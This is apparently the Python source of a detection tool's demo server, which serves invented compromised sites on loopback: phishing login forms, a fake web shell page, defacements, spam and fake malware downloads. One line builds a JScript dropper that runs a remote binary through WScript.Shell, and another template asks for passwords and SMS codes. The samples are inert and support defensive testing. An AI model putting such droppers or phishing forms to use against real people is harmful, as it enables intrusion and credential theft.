"""The demo's invented web sites, served over real HTTP on a loopback address.

A `SiteBook` holds every invented site and what it shows now: the owner's own pages, the pages an
attacker put there (a phishing form, a malware download, a defaced front page, a web shell, spam),
404 for everything once the hosting took the site down, or nothing at all once its name no longer
resolves (the demo's name server answers NXDOMAIN). The replay changes the book as owners fix
their sites; `SiteServer` answers from it at the moment a check asks, so the checker's verdicts
are its own. The book is saved as JSON so `zonewarden serve --demo` serves the same sites later.
"""

from __future__ import annotations

import hashlib
import html
import json
import threading
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

UP, GONE, NO_DNS = "up", "gone", "no-dns"
STATES = (UP, GONE, NO_DNS)
CATEGORIES = ("phishing", "malware", "defacement", "compromised", "other")
SERVER_NAME = "zonewarden-demo-sites"
VERSION = 1


class SiteBookError(ValueError):
    """A saved site book that cannot be read; the message names the file and the field."""


@dataclass
class Page:
    """A page an attacker put on a site: its category, the title it shows, who signed it."""

    category: str
    title: str = ""
    actor: str = ""


@dataclass
class Site:
    """One invented site: the owner's title, its state and the pages an attacker put there."""

    title: str
    state: str = UP
    pages: dict[str, Page] = field(default_factory=dict)


@dataclass(frozen=True)
class Response:
    status: int
    headers: tuple[tuple[str, str], ...]
    body: bytes


class SiteBook:
    """Every invented site and its state; safe to change from one thread while others serve it."""

    def __init__(
        self,
        *,
        zones: list[str] | None = None,
        address: str = "127.0.0.1",
        http_port: int = 80,
        dns_port: int = 53,
    ) -> None:
        self.zones = [zone.lower().strip(".") for zone in (zones or ["kz", "xn--80ao21a"])]
        self.address = address
        self.http_port = http_port
        self.dns_port = dns_port
        self.sites: dict[str, Site] = {}
        self._lock = threading.Lock()

    # What the replay does.

    def add(self, name: str, title: str) -> None:
        """Put up an owner's site (nothing wrong with it yet)."""
        with self._lock:
            self.sites.setdefault(name.lower(), Site(title=title))

    def infect(self, name: str, path: str, category: str, *, title: str = "", actor: str = "") -> None:
        """An attacker puts a page on the site (the site is up again if it was down)."""
        with self._lock:
            site = self.sites.setdefault(name.lower(), Site(title=name))
            site.state = UP
            site.pages[path] = Page(category, title, actor)

    def clean(self, name: str) -> None:
        """The owner removes the attacker's pages and serves the own site again (DNS back too)."""
        with self._lock:
            site = self.sites[name.lower()]
            site.pages.clear()
            site.state = UP

    def take_down(self, name: str) -> None:
        """The owner (or the hosting) takes the whole site down: 404 for every path."""
        with self._lock:
            site = self.sites[name.lower()]
            site.pages.clear()
            site.state = GONE

    def unpublish(self, name: str) -> None:
        """The owner takes the name out of the DNS: it no longer resolves (the pages stay on the host)."""
        with self._lock:
            self.sites[name.lower()].state = NO_DNS

    def needs_fix(self, name: str) -> bool:
        """Whether an attacker's page is still on the site (served, or waiting behind a name out of the DNS)."""
        with self._lock:
            site = self.sites.get(name.lower())
            return site is not None and bool(site.pages)

    def state(self, name: str) -> str:
        with self._lock:
            return self.sites[name.lower()].state

    def url(self, host: str, path: str) -> str:
        """The address of a page of the demo, with the port when the sites are not on port 80."""
        port = "" if self.http_port == 80 else f":{self.http_port}"
        return f"http://{host}{port}{path}"

    # What the servers ask.

    def site_name(self, host: str) -> str | None:
        """The demo site a host name belongs to (the name itself, www., shop., …), or None."""
        name = host.lower().rstrip(".")
        with self._lock:
            while name:
                if name in self.sites:
                    return name
                name = name.partition(".")[2]
        return None

    def resolves(self, name: str) -> bool:
        with self._lock:
            site = self.sites.get(name)
            return site is not None and site.state != NO_DNS

    def snapshot(self, name: str) -> Site | None:
        """A copy of one site, so a request reads one consistent state."""
        with self._lock:
            site = self.sites.get(name)
            if site is None:
                return None
            return Site(site.title, site.state, dict(site.pages))

    def counts(self) -> dict[str, int]:
        """How many sites show attacker pages, are clean, gone or out of the DNS."""
        found = {"hacked": 0, "clean": 0, GONE: 0, NO_DNS: 0}
        with self._lock:
            for site in self.sites.values():
                if site.state != UP:
                    found[site.state] += 1
                else:
                    found["hacked" if site.pages else "clean"] += 1
        return found

    # Saving and loading.

    def to_json(self) -> dict[str, Any]:
        with self._lock:
            return {
                "version": VERSION,
                "address": self.address,
                "http_port": self.http_port,
                "dns_port": self.dns_port,
                "zones": list(self.zones),
                "sites": {
                    name: {
                        "title": site.title,
                        "state": site.state,
                        "pages": {
                            path: {"category": page.category, "title": page.title, "actor": page.actor}
                            for path, page in site.pages.items()
                        },
                    }
                    for name, site in sorted(self.sites.items())
                },
            }

    def save(self, path: Path) -> None:
        """Write the book atomically (a server reading it never sees half a file)."""
        path.parent.mkdir(parents=True, exist_ok=True)
        partial = path.with_name(path.name + ".partial")
        partial.write_text(json.dumps(self.to_json(), ensure_ascii=False, indent=1), encoding="utf-8")
        partial.replace(path)

    @classmethod
    def load(cls, path: Path) -> SiteBook:
        try:
            data = json.loads(path.read_text(encoding="utf-8"))
        except FileNotFoundError:
            raise SiteBookError(f"{path}: no demo sites saved (run `zonewarden demo` first)") from None
        except (OSError, UnicodeDecodeError, ValueError) as exc:
            raise SiteBookError(f"{path}: not a demo site book: {exc}") from None
        return cls.from_json(data, source=str(path))

    @classmethod
    def from_json(cls, data: object, *, source: str = "site book") -> SiteBook:
        def need(value: object, kind: type | tuple[type, ...], where: str) -> Any:
            if not isinstance(value, kind) or isinstance(value, bool) and kind is int:
                raise SiteBookError(f"{source}: {where} is {value!r}, not what a site book holds")
            return value

        top = need(data, dict, "the file")
        if top.get("version") != VERSION:
            raise SiteBookError(f"{source}: version is {top.get('version')!r}, not {VERSION}")
        book = cls(
            zones=[need(zone, str, "zones[]") for zone in need(top.get("zones"), list, "zones")],
            address=need(top.get("address"), str, "address"),
            http_port=need(top.get("http_port"), int, "http_port"),
            dns_port=need(top.get("dns_port"), int, "dns_port"),
        )
        for port_field in ("http_port", "dns_port"):
            if not 0 < top[port_field] < 65536:
                raise SiteBookError(f"{source}: {port_field} is {top[port_field]}, not a port")
        for name, entry in need(top.get("sites"), dict, "sites").items():
            where = f"sites[{name!r}]"
            need(entry, dict, where)
            state = need(entry.get("state"), str, f"{where}.state")
            if state not in STATES:
                raise SiteBookError(f"{source}: {where}.state is {state!r}, not one of {', '.join(STATES)}")
            pages = {}
            for path, page in need(entry.get("pages", {}), dict, f"{where}.pages").items():
                need(page, dict, f"{where}.pages[{path!r}]")
                pages[path] = Page(
                    need(page.get("category"), str, f"{where}.pages[{path!r}].category"),
                    need(page.get("title", ""), str, f"{where}.pages[{path!r}].title"),
                    need(page.get("actor", ""), str, f"{where}.pages[{path!r}].actor"),
                )
            book.sites[name.lower()] = Site(
                title=need(entry.get("title"), str, f"{where}.title"),
                state=state,
                pages=pages,
            )
        return book


# What the sites show. Everything is made from the site's name and the page's data, the same
# every time, so a page still there has the same title, fuzzy hash and payload at each check.


def _seed(*parts: str) -> bytes:
    return hashlib.sha256("\n".join(parts).encode()).digest()


def _html(title: str, body: str, *, lang: str = "ru") -> bytes:
    return (
        f'<!doctype html>\n<html lang="{lang}"><head><meta charset="utf-8">'
        f"<title>{html.escape(title)}</title></head>\n<body>\n{body}\n</body></html>\n"
    ).encode()


BLURBS = [
    "Мы работаем с 2009 года. Доставка по всему Казахстану, оплата при получении.",
    "Біз 2012 жылдан бері жұмыс істейміз. Тапсырыстар күн сайын 9:00-ден 18:00-ге дейін.",
    "Family business since 2015: fresh produce from the farms around Almaty, delivered daily.",
    "Туры по Казахстану и Центральной Азии: Чарынский каньон, Кольсай, Бурабай, Туркестан.",
    "Ремонт и обслуживание автомобилей, запчасти в наличии и под заказ.",
]
SPAM = ["Viagra 0.99$", "Cialis без рецепта", "Replica watches", "Casino bonus 500%", "Займ за 5 минут"]


def owner_page(name: str, site: Site) -> bytes:
    """The owner's own site: a front page with its name, some text and no password field."""
    seed = _seed("owner", name)
    blurb = BLURBS[seed[0] % len(BLURBS)]
    phone = f"+7 7{seed[1] % 100:02d} {seed[2] % 1000:03d} {seed[3] % 100:02d} {seed[4] % 100:02d}"
    return _html(
        site.title,
        f"<header><h1>{html.escape(site.title)}</h1>"
        '<nav><a href="/">Главная</a> <a href="/about">О нас</a> <a href="/contacts">Контакты</a></nav>'
        f"</header>\n<main><p>{html.escape(blurb)}</p>\n<p>Телефон: {phone}</p>\n"
        f"<p>E-mail: info@{html.escape(name)}</p></main>\n<footer>© {html.escape(name)}</footer>",
    )


def _phishing(path: str, page: Page) -> bytes:
    title = page.title or "Вход в личный кабинет"
    return _html(
        title,
        f"<h1>{html.escape(title)}</h1>\n<p>Для продолжения подтвердите свои данные.</p>\n"
        f'<form method="post" action="{html.escape(path)}">\n'
        '<label>Логин или ИИН <input name="login"></label>\n'
        '<label>Пароль <input type="password" name="password"></label>\n'
        '<label>Код из SMS <input name="otp"></label>\n'
        "<button>Войти</button>\n</form>",
    )


def _payload(name: str, path: str) -> tuple[str, bytes, str]:
    """A malware download: a content type, a body whose first bytes say what it is, a file name."""
    filler = b"".join(_seed("payload", name, path, str(i)) for i in range(128))  # 4 KiB, fixed per URL
    filename = path.rstrip("/").rsplit("/", 1)[-1] or "download"
    if path.endswith(".exe"):
        body = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00This program cannot be run in DOS mode."
        return "application/x-msdownload", body + filler, filename
    if path.endswith(".zip"):
        return "application/zip", b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + filler, filename
    if path.endswith(".js"):
        dropper = f"var u='http://{name}/bins/x86';new ActiveXObject('WScript.Shell').Run(u);//".encode()
        return "application/octet-stream", dropper + filler.hex().encode(), filename
    return "application/octet-stream", b"\x7fELF\x02\x01\x01\x00" + filler, filename


def _defaced(name: str, page: Page) -> bytes:
    actor = page.actor or "an unknown crew"
    return _html(
        f"Hacked by {actor}",
        f"<h1>Hacked by {html.escape(actor)}</h1>\n<p>Your security is zero. {html.escape(name)} was here.</p>\n"
        "<p>Greetz: all my brothers</p>",
        lang="en",
    )


def _shell(name: str, page: Page) -> bytes:
    actor = page.actor or "root"
    return _html(
        page.title or "WSO 4.2.5",
        f"<pre>Uname: Linux web01 5.10.0-28-amd64 x86_64\nUser: 33 (www-data)\nHome: /var/www/{html.escape(name)}</pre>\n"
        '<form method="post"><input name="c" value="ls -la"><button>&gt;&gt;</button></form>\n'
        f"<p>Owned by {html.escape(actor)}</p>",
        lang="en",
    )


def _spam(name: str, page: Page) -> bytes:
    seed = _seed("spam", name)
    links = "\n".join(
        f'<li><a href="/spam/{i}">{html.escape(SPAM[(seed[i] + i) % len(SPAM)])}</a></li>' for i in range(12)
    )
    return _html(
        page.title or "Best offers", f"<h1>{html.escape(page.title or 'Best offers')}</h1>\n<ul>{links}</ul>"
    )


def _answer(status: int, content_type: str, body: bytes, *extra: tuple[str, str]) -> Response:
    return Response(status, (("Content-Type", content_type), *extra), body)


NOT_FOUND = _html(
    "404 Not Found", "<h1>Not Found</h1>\n<p>The requested URL was not found on this server.</p>"
)
HTML_TYPE = "text/html; charset=utf-8"


def render(book: SiteBook, host: str, target: str) -> Response:
    """What the demo's web server answers for `target` (a path and query) on `host` right now."""
    name = book.site_name(host.rsplit(":", 1)[0] if host.count(":") == 1 else host)
    site = book.snapshot(name) if name else None
    if name is None or site is None or site.state != UP:
        return _answer(404, HTML_TYPE, NOT_FOUND)
    path = urlsplit(target).path or "/"
    page = site.pages.get(path)
    if page is None and path == "/index.html":
        page = site.pages.get("/")
    if page is not None:
        return _attacker_page(name, path, page)
    if path in ("/", "/index.html"):
        return _answer(200, HTML_TYPE, owner_page(name, site))
    return _answer(404, HTML_TYPE, NOT_FOUND)


def _attacker_page(name: str, path: str, page: Page) -> Response:
    if page.category == "phishing":
        return _answer(200, HTML_TYPE, _phishing(path, page))
    if page.category == "malware":
        content_type, body, filename = _payload(name, path)
        return _answer(200, content_type, body, ("Content-Disposition", f'attachment; filename="{filename}"'))
    if page.category == "defacement":
        return _answer(200, HTML_TYPE, _defaced(name, page))
    if page.category == "compromised":
        return _answer(200, HTML_TYPE, _shell(name, page))
    return _answer(200, HTML_TYPE, _spam(name, page))


class _Handler(BaseHTTPRequestHandler):
    server: SiteServer
    protocol_version = "HTTP/1.1"
    server_version = SERVER_NAME
    sys_version = ""
    timeout = 10  # an idle keep-alive connection is closed after this

    def do_GET(self) -> None:  # noqa: N802 - the name http.server looks for
        self._reply(head=False)

    def do_HEAD(self) -> None:  # noqa: N802
        self._reply(head=True)

    def do_POST(self) -> None:  # noqa: N802 - a phishing form posts back: it is only read, never kept
        length = self.headers.get("Content-Length", "0")
        self.rfile.read(min(int(length), 65536) if length.isdigit() else 0)
        self._reply(head=False)

    def _reply(self, *, head: bool) -> None:
        answer = render(self.server.book, self.headers.get("Host", ""), self.path)
        self.send_response(answer.status)
        for key, value in answer.headers:
            self.send_header(key, value)
        self.send_header("Content-Length", str(len(answer.body)))
        self.end_headers()
        if not head:
            self.wfile.write(answer.body)

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - http.server's signature
        """Say nothing per request: the checks keep what was fetched."""


class SiteServer(ThreadingHTTPServer):
    """The demo's web server: every invented site, on one loopback address and port."""

    daemon_threads = True
    block_on_close = False  # an idle keep-alive connection must not hold up stopping

    def __init__(self, book: SiteBook, address: str, port: int) -> None:
        self.book = book
        super().__init__((address, port), _Handler)

    @property
    def port(self) -> int:
        return int(self.server_address[1])

    def start(self) -> threading.Thread:
        """Serve from a daemon thread; `stop()` ends it."""
        thread = threading.Thread(target=self.serve_forever, name="demo-sites-http", daemon=True)
        thread.start()
        return thread

    def stop(self) -> None:
        self.shutdown()
        self.server_close()
